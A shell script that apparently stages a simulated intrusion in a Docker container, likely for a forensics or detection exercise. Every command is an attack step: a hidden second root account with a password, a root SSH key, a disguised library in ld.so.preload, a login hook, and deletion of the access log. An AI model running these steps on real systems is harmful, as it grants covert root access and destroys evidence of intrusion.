#!/bin/sh
# The compromise: a second uid-0 account with a password, an SSH key for root,
# a library preloaded into every process, a login hook in /etc/profile, and the
# app log that showed the intrusion deleted. Runs through docker exec.
set -eu
victim=$1
docker exec -i "$victim" sh -eu <<'ATTACK'
echo 'sysadmin:x:0:0:System Administrator:/root:/bin/sh' >> /etc/passwd
echo 'sysadmin:$6$Zm9vYmFy$9z0Yk6x8RGj8Qv2cQW8X2Gx0Vb6e5n5j1m3o9H8lJkz3w0uY9tqB8r5xW2c1n7m6k4a3s2d1f0g9h8j7k6l5z/:19700:0:99999:7:::' >> /etc/shadow
mkdir -p /root/.ssh
chmod 700 /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG5vdC1hLXJlYWwta2V5LWp1c3QtYS1zYW1wbGU attacker@evil' > /root/.ssh/authorized_keys
cp /bin/busybox /lib/libsystemd-helper.so
echo '/lib/libsystemd-helper.so' > /etc/ld.so.preload
echo 'nohup /bin/sh -c "sleep 1" >/dev/null 2>&1 &' >> /etc/profile
rm /var/log/app/access.log
ATTACK
